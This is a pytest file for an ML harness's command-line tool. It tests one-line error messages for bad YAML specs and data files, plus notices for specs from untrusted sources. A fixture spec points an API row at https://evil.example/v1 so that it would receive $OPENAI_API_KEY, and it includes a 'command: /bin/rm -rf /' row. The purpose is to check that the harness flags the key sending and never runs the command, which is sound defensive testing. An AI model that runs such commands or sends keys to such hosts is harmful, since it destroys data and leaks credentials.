"""Issue 34: spec and data faults named where they are, and what a spec from someone else makes harness do.

Every fault is one line naming the spec file and key (or the data file and line), exit status 2, nothing
written; a spec that runs a command or sends the user's key to its own address says so in one notice line
and the run goes on. No model loads or trains here: each run stops at bad input."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from harness.data_files import read_examples
from harness.errors import UserError
from harness.plugins import load_plugins
from harness.spec import load_spec
from harness.types import Task
from test_bad_input import GOOD, one_line_error, write

LABELS = "[World, Sports, Business, Sci/Tech]"
SPEC = (
    "name: bad\ntask: {type: classification, labels: " + LABELS + "}\ndataset: {train: train.jsonl, test: test.jsonl}\n"
)
WAYBILL_LINE = (
    '{"text": "13552664307姜骏炜云南省德宏州盈江县平原镇", "fields": {"name": "姜骏炜", "phone": "13552664307", '
    '"province": "云南省", "city": "德宏州", "district": "盈江县", "specific_location": null}}\n'
)


def notices_and_errors(result) -> tuple[list[str], list[str]]:
    lines = [line for line in result.stderr.splitlines() if not line.startswith("harness: plugin 'broken-import'")]
    assert "Traceback" not in result.stderr, result.stderr
    notices = [line.removeprefix("harness: notice: ") for line in lines if line.startswith("harness: notice: ")]
    errors = [line.removeprefix("harness: error: ") for line in lines if line.startswith("harness: error: ")]
    assert len(notices) + len(errors) == len(lines), result.stderr
    return notices, errors


def train_file_error(cli, tmp_path: Path, train: Path) -> str:
    """The one error line of a naive-bayes compare on agnews with ``train`` (and good test data)."""
    test = write(tmp_path / "test.jsonl", GOOD)
    result = cli(
        "compare",
        "--plugins",
        "naive-bayes",
        "--spec",
        "agnews",
        "--data",
        f"train={train},test={test}",
        "--json",
        "out.json",
    )
    return one_line_error(result, tmp_path)


def nothing_written(tmp_path: Path) -> None:
    assert not (tmp_path / ".harness").exists() and not (tmp_path / "out.json").exists()


# --- the spec: every row checked, whatever --plugins selects ---------------------------------------------------


@pytest.mark.parametrize(
    "plugins, body, expected",
    [
        # A row of another approach that is not installed: named by the spec's key, selected or not.
        (
            "naive-bayes",
            SPEC + "plugins:\n  fast: {approach: nope}\n",
            "bad.yaml: plugins.fast.approach: unknown approach 'nope' (known: bert, bert-onnx, failing-train, "
            "naive-bayes, naive-bayes-tables, openai, qwen, qwen-lora, seqgpt, vllm, vllm-lora)",
        ),
        (
            "fast",
            SPEC + "plugins:\n  fast: {approach: nope}\n",
            "bad.yaml: plugins.fast.approach: unknown approach 'nope'",
        ),
        # A section whose name is no approach (a typo of bert) and says no approach: of its own.
        (
            "naive-bayes",
            SPEC + "plugins:\n  bret: {max_length: 64}\n",
            "bad.yaml: plugins.bret: unknown approach 'bret' (known: bert, ",
        ),
        ("naive-bayes", SPEC + "teacher: nope\n", "bad.yaml: teacher: unknown approach or row 'nope' (known: bert, "),
        # Settings of rows that do not run now: names, types, choices, ranges.
        (
            "naive-bayes",
            SPEC + "plugins:\n  zero: {approach: qwen, lerning_rate: 1.0e-4}\n",
            "bad.yaml: plugins.zero.lerning_rate: unknown setting for zero; known: ",
        ),
        (
            "naive-bayes",
            SPEC + "plugins:\n  bert: {num_train_epochs: many}\n",
            "bad.yaml: plugins.bert.num_train_epochs: expected float, got 'many'",
        ),
        (
            "naive-bayes",
            SPEC + "plugins:\n  qwen: {learning_rate: 0}\n",
            "bad.yaml: plugins.qwen.learning_rate: must be > 0, got 0.0",
        ),
        (
            "naive-bayes",
            SPEC + "plugins:\n  qwen: {scoring: leter}\n",
            "bad.yaml: plugins.qwen.scoring: 'leter' is not one of letter, perplexity, likelihood",
        ),
        (
            "naive-bayes",
            SPEC + "plugins:\n  api: {approach: openai, concurrency: 0}\n",
            "bad.yaml: plugins.api.concurrency: must be >= 1, got 0",
        ),
        # A row of another approach takes that approach's section too: a mistake there is named where it is.
        (
            "naive-bayes",
            SPEC + "plugins:\n  qwen: {max_new_tokens: 0}\n  zero: {approach: qwen}\n",
            "bad.yaml: plugins.qwen.max_new_tokens: must be >= 1, got 0",
        ),
        # Names listed twice, and a YAML key given twice (YAML itself keeps the last without a word).
        (
            "naive-bayes",
            SPEC.replace(LABELS, "[World, Sports, Sports, Sci/Tech]"),
            "bad.yaml: task.labels: 'Sports' is listed twice",
        ),
        (
            "qwen",
            SPEC.replace("type: classification, labels: " + LABELS, "type: extraction, fields: [name, phone, name]"),
            "bad.yaml: task.fields: 'name' is listed twice",
        ),
        ("naive-bayes", SPEC + "metrics: [accuracy, accuracy]\n", "bad.yaml: metrics: 'accuracy' is listed twice"),
        (
            "naive-bayes",
            SPEC + "plugins:\n  naive-bayes:\n    smoothing: 1.0\n    smoothing: 2.0\n",
            "bad.yaml: plugins.naive-bayes.smoothing: given twice, on lines 6 and 7 (YAML would keep only the last)",
        ),
    ],
    ids=[
        "other-row-approach",
        "selected-row-approach",
        "unknown-section",
        "spec-teacher",
        "other-row-setting-name",
        "other-row-setting-type",
        "other-row-range",
        "other-row-choice",
        "openai-row-range",
        "base-section",
        "labels-twice",
        "fields-twice",
        "metrics-twice",
        "yaml-key-twice",
    ],
)
def test_spec_faults_name_the_file_and_key(cli, tmp_path, plugins, body, expected):
    write(tmp_path / "train.jsonl", GOOD)
    write(tmp_path / "test.jsonl", GOOD)
    spec = write(tmp_path / "bad.yaml", body)
    error = one_line_error(cli("compare", "--plugins", plugins, "--spec", spec, "--json", "out.json"), tmp_path)
    assert error.startswith(f"{tmp_path / expected.split(': ', 1)[0]}: {expected.split(': ', 1)[1]}"), error


@pytest.mark.parametrize(
    "command",
    [["grid", "--plugins", "naive-bayes", "--seeds", "0"], ["bench", "--plugin", "naive-bayes", "--random-weights"]],
)
def test_grid_and_bench_check_every_row_of_the_spec_as_compare_does(cli, tmp_path, command):
    write(tmp_path / "train.jsonl", GOOD)
    write(tmp_path / "test.jsonl", GOOD)
    spec = write(tmp_path / "bad.yaml", SPEC + "plugins:\n  fast: {approach: nope}\n")
    error = one_line_error(cli(*command, "--spec", spec, "--json", "out.json"), tmp_path)
    assert error.startswith(f"{spec}: plugins.fast.approach: unknown approach 'nope' (known: bert, "), error


def test_a_teacher_on_the_command_line_that_is_nothing_is_named_by_its_flag(cli, tmp_path):
    data = f"train={write(tmp_path / 'train.jsonl', GOOD)},test={write(tmp_path / 'test.jsonl', GOOD)}"
    result = cli(
        "compare",
        "--plugins",
        "naive-bayes",
        "--teacher",
        "opnai",
        "--spec",
        "agnews",
        "--data",
        data,
        "--json",
        "out.json",
    )
    assert one_line_error(result, tmp_path).startswith("--teacher: unknown approach or row 'opnai' (known: bert, ")


def fake_missing_extras(tmp_path: Path) -> Path:
    """A directory that, first on PYTHONPATH, makes the optional extras fail to import as if not installed."""
    site = tmp_path / "no-extras"
    for name in ("openai", "onnxruntime", "onnx"):
        (site / name).mkdir(parents=True)
        (site / name / "__init__.py").write_text(f"raise ImportError('{name} is not installed (test)')\n")
    return site


def test_checking_a_row_needs_no_optional_extra(cli, plugin_site, tmp_path):
    # The openai row does not run: its settings are checked from its Settings class, without the openai package.
    env = {"PYTHONPATH": os.pathsep.join([str(fake_missing_extras(tmp_path)), str(plugin_site)])}
    rows = (
        "plugins:\n  api: {approach: openai, base_url: 'http://127.0.0.1:9/v1', concurrency: %s}\n"
        "  int8: {approach: bert-onnx, precision: %s}\n"
    )
    write(tmp_path / "test.jsonl", GOOD)
    spec = write(tmp_path / "bad.yaml", SPEC + rows % (0, "int8"))
    error = one_line_error(
        cli("compare", "--plugins", "naive-bayes", "--spec", spec, "--json", "out.json", env=env), tmp_path
    )
    assert error == f"{spec}: plugins.api.concurrency: must be >= 1, got 0"
    spec = write(tmp_path / "bad.yaml", SPEC + rows % (4, "int4"))
    error = one_line_error(
        cli("compare", "--plugins", "naive-bayes", "--spec", spec, "--json", "out.json", env=env), tmp_path
    )
    assert error == f"{spec}: plugins.int8.precision: 'int4' is not one of fp32, fp16, int8"
    # Valid rows pass: the run goes on to the data (train.jsonl is missing on purpose).
    spec = write(tmp_path / "bad.yaml", SPEC + rows % (4, "int8"))
    error = one_line_error(
        cli("compare", "--plugins", "naive-bayes", "--spec", spec, "--json", "out.json", env=env), tmp_path
    )
    assert error == f"{tmp_path / 'train.jsonl'}: no such file"


def test_the_shipped_specs_check_clean_and_notice_nothing():
    plugins = load_plugins()
    for name in ("agnews", "thucnews", "waybill"):
        spec = load_spec(name)
        rows = [row for row in [*plugins.approaches(), *spec.plugins] if spec.approach_of(row) in plugins.approaches()]
        assert plugins.check_spec(spec, list(dict.fromkeys(rows)), {}) == [], name


# --- what a spec from someone else makes harness do: one notice line each, and the run goes on -------------------

RUNS_AND_SENDS = (
    SPEC.replace("test.jsonl}", "missing.jsonl}")
    + """\
plugins:
  vllm:
    command: python -m vllm.entrypoints.openai.api_server --api-key sk-do-not-print
  api:
    approach: openai
    base_url: https://evil.example/v1
    api_key_env: OPENAI_API_KEY
    model: gpt-4o-mini
  unused:
    approach: vllm-lora
    command: /bin/rm -rf /
"""
)


def test_a_spec_that_runs_a_command_or_sends_a_key_says_so_once_and_goes_on(cli, tmp_path):
    write(tmp_path / "train.jsonl", GOOD)
    spec = write(tmp_path / "x.yaml", RUNS_AND_SENDS)
    result = cli("compare", "--plugins", "vllm,api", "--spec", spec, "--json", "out.json")
    notices, errors = notices_and_errors(result)
    assert notices == [
        f"{spec}: plugins.vllm.command runs 'python -m vllm.entrypoints.openai.api_server --api-key <secret>' "
        "on this machine",
        f"{spec}: plugins.api.base_url sends $OPENAI_API_KEY to https://evil.example/v1",
    ]
    assert "sk-do-not-print" not in result.stderr and "/bin/rm" not in result.stderr  # the unused row does not run
    # The run went on past the notices, to the data: the missing test file stops it before anything is written.
    assert result.returncode == 2 and errors == [f"{tmp_path / 'missing.jsonl'}: no such file"]
    nothing_written(tmp_path)


def test_what_the_user_sets_on_the_command_line_is_no_notice(cli, tmp_path):
    write(tmp_path / "train.jsonl", GOOD)
    spec = write(tmp_path / "x.yaml", RUNS_AND_SENDS)
    result = cli(
        "compare",
        "--plugins",
        "vllm,api",
        "--spec",
        spec,
        "--json",
        "out.json",
        "--set",
        "vllm.command=/opt/vllm/bin/vllm serve",
        "--set",
        "api.base_url=https://api.openai.com/v1",
    )
    notices, errors = notices_and_errors(result)
    assert notices == [] and errors == [f"{tmp_path / 'missing.jsonl'}: no such file"]


def test_a_row_of_the_spec_that_sends_a_key_is_noticed_as_a_teacher_too(cli, tmp_path):
    write(tmp_path / "train.jsonl", GOOD)
    spec = write(tmp_path / "x.yaml", RUNS_AND_SENDS + "teacher: api\n")
    result = cli("compare", "--plugins", "naive-bayes", "--spec", spec, "--json", "out.json")
    notices, errors = notices_and_errors(result)
    assert notices == [f"{spec}: plugins.api.base_url sends $OPENAI_API_KEY to https://evil.example/v1"]
    assert errors == [f"{tmp_path / 'missing.jsonl'}: no such file"]


def test_what_a_command_is_given_besides_its_name_is_noticed(tmp_path):
    spec = load_spec(
        write(
            tmp_path / "x.yaml",
            SPEC + "plugins:\n  vllm:\n    extra_args: --trust-remote-code\n"
            "    env: PATH=/tmp/elsewhere,HF_TOKEN=hf_do_not_print\n",
        )
    )
    notices = load_plugins().check_spec(spec, ["vllm"], {})
    assert notices == [
        f"{spec.path}: plugins.vllm.extra_args adds '--trust-remote-code' to the command vllm runs on this "
        "machine ('vllm serve')",
        f"{spec.path}: plugins.vllm.env sets PATH, HF_TOKEN in the environment of the command vllm runs on this "
        "machine ('vllm serve')",
    ]
    # A spec that writes the approach's own default changes nothing, and says nothing.
    same = load_spec(
        write(
            tmp_path / "y.yaml",
            SPEC + "plugins:\n  vllm: {command: vllm serve}\n"
            "  openai: {base_url: 'http://127.0.0.1:8000/v1', api_key_env: KEY}\n",
        )
    )
    assert load_plugins().check_spec(same, ["vllm", "openai"], {}) == []


def test_the_shipped_specs_with_the_bundled_engines_run_quietly(cli, tmp_path):
    data = f"train={write(tmp_path / 'train.jsonl', GOOD)},test={tmp_path / 'missing.jsonl'}"
    result = cli("compare", "--plugins", "vllm,openai", "--spec", "agnews", "--data", data, "--json", "out.json")
    notices, errors = notices_and_errors(result)
    assert notices == [] and errors == [f"{tmp_path / 'missing.jsonl'}: no such file"]


# --- CSV: a quote left open and closed by a later one -----------------------------------------------------------

TASK = Task("classification", ("World", "Sports", "Business", "Sci/Tech"))


@pytest.mark.parametrize(
    "body, expected",
    [
        # The next quote in the file opens a quoted field of a later line: it closes line 3's, with text after it.
        (
            'text,label\nTeam wins the final,1\n"Stocks rally on rate cut hopes,2\nRain all week,0\n'
            '"Chips, faster",3\n',
            "train.csv:3: unterminated quote starting on line 3: the quote that closes it on line 5 is followed by "
            "text, not a comma or the line's end, so lines 3 to 5 would be read as one field",
        ),
        # A quote inside a later text closes it.
        (
            'text,label\n"Stocks rally on rate cut hopes,2\nTeam wins the final,1\nRain "all" week,0\n',
            "train.csv:2: unterminated quote starting on line 2: the quote that closes it on line 4",
        ),
        # Closed before a comma, but the record it makes has more columns than the header.
        (
            'text,label\n"Stocks rally on rate cut hopes,2\nTeam wins the final,1\nRain all week","x",0\n',
            "train.csv:2: a quoted field opens on line 2 and runs to line 4, leaving 3 columns where the header has 2: "
            "a quote left open?",
        ),
    ],
    ids=["closed-by-a-later-field", "closed-inside-a-text", "columns"],
)
def test_a_csv_quote_closed_lines_later_is_one_line_naming_where_it_opened(cli, tmp_path, body, expected):
    assert train_file_error(cli, tmp_path, write(tmp_path / "train.csv", body)).startswith(f"{tmp_path}/{expected}")


@pytest.mark.parametrize(
    "body, texts",
    [
        (
            'text,label\nTeam wins,1\n"Stocks rally\non rate, cut\n""hopes""",2\nRain,0\n',
            ["Team wins", 'Stocks rally\non rate, cut\n"hopes"', "Rain"],
        ),
        ('text,label\r\n"Stocks rally\r\non rate",2\r\n"Team\r\nwins",1', ["Stocks rally\r\non rate", "Team\r\nwins"]),
        ('label,text\n2,"Stocks rally\non rate"\n1,Team "wins" it\n', ["Stocks rally\non rate", 'Team "wins" it']),
        # A quote closed and followed by text on its own line is read as the csv module reads it, as before.
        ('text,label\n"Stocks" rally,2\n', ["Stocks rally"]),
    ],
    ids=["quoted-newlines-commas-quotes", "crlf-and-no-final-newline", "text-last", "one-line-lenient"],
)
def test_quoted_fields_over_several_lines_are_read_as_written(tmp_path, body, texts):
    path = tmp_path / "train.csv"
    path.write_text(body, encoding="utf-8", newline="")
    assert [ex.text for ex in read_examples(path, TASK, "text", "label", "fields")] == texts


# --- JSONL: gold values that are no answer ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line, expected",
    [
        (
            '{"text": "Team wins", "label": [1]}',
            "train.jsonl:2: label field 'label' is a list; a label is one of the spec's label names or an integer id",
        ),
        ('{"text": "Team wins", "label": {"id": 1}}', "train.jsonl:2: label field 'label' is an object"),
        ('{"text": "Team wins", "label": true}', "train.jsonl:2: label field 'label' is a boolean (true)"),
        ('{"text": "Team wins", "label": 1.0}', "train.jsonl:2: label field 'label' is the number 1.0, not an integer"),
        ('{"text": "Team wins"}', "train.jsonl:2: missing label field 'label'"),
    ],
    ids=["list", "object", "boolean", "float", "missing"],
)
def test_a_label_that_is_no_label_name_or_id_is_named_by_file_line_and_field(cli, tmp_path, line, expected):
    train = write(tmp_path / "train.jsonl", GOOD.splitlines()[0] + "\n" + line + "\n")
    assert train_file_error(cli, tmp_path, train).startswith(f"{tmp_path}/{expected}")


@pytest.mark.parametrize(
    "value, expected",
    [
        ('["13552664307"]', "is a list"),
        ('{"mobile": "13552664307"}', "is an object"),
        ("false", "is a boolean (false)"),
    ],
    ids=["list", "object", "boolean"],
)
def test_an_extraction_gold_value_that_is_no_text_is_named_by_file_line_and_field(cli, tmp_path, value, expected):
    bad = WAYBILL_LINE.replace('"phone": "13552664307"', f'"phone": {value}')
    train = write(tmp_path / "train.jsonl", WAYBILL_LINE + bad)
    test = write(tmp_path / "test.jsonl", WAYBILL_LINE)
    result = cli(
        "compare",
        "--plugins",
        "qwen",
        "--spec",
        "waybill",
        "--data",
        f"train={train},test={test}",
        "--json",
        "out.json",
    )
    assert one_line_error(result, tmp_path) == (
        f"{train}:2: field 'phone' {expected}; a gold value is a string, a number or null"
    )


def test_numbers_and_null_stay_gold_values(tmp_path):
    path = tmp_path / "train.jsonl"
    path.write_text(WAYBILL_LINE.replace('"13552664307"', "13552664307").replace('"云南省"', "null"), encoding="utf-8")
    task = Task("extraction", fields=("name", "phone", "province", "city", "district", "specific_location"))
    (example,) = read_examples(path, task, "text", "label", "fields")
    assert example.fields["phone"] == "13552664307" and example.fields["province"] == ""


def test_a_key_given_twice_in_a_mapping_of_anchors_is_not_a_merge(tmp_path):
    # A merge (<<) brings keys that the mapping's own keys override: that is not a key given twice.
    body = (
        SPEC + "plugins:\n  qwen: &tuned {learning_rate: 1.0e-4, max_length: 64}\n  zero:\n    <<: *tuned\n"
        "    approach: qwen\n    max_length: 128\n"
    )
    spec = load_spec(write(tmp_path / "ok.yaml", body))
    assert spec.plugins["zero"] == {"learning_rate": 1.0e-4, "max_length": 128}
    with pytest.raises(UserError, match=r"ok\.yaml: task\.labels: 'World' is listed twice"):
        load_spec(write(tmp_path / "ok.yaml", body.replace(LABELS, "[World, World]")))


def test_no_model_is_loaded_with_remote_code():
    """The README's security paragraph: a spec cannot make harness run a model repository's own code."""
    from conftest import ROOT

    sources = [p for folder in ("harness", "plugins") for p in (ROOT / folder).rglob("*.py")]
    assert len(sources) > 20
    assert [str(p) for p in sources if "trust_remote_code" in p.read_text(encoding="utf-8")] == []
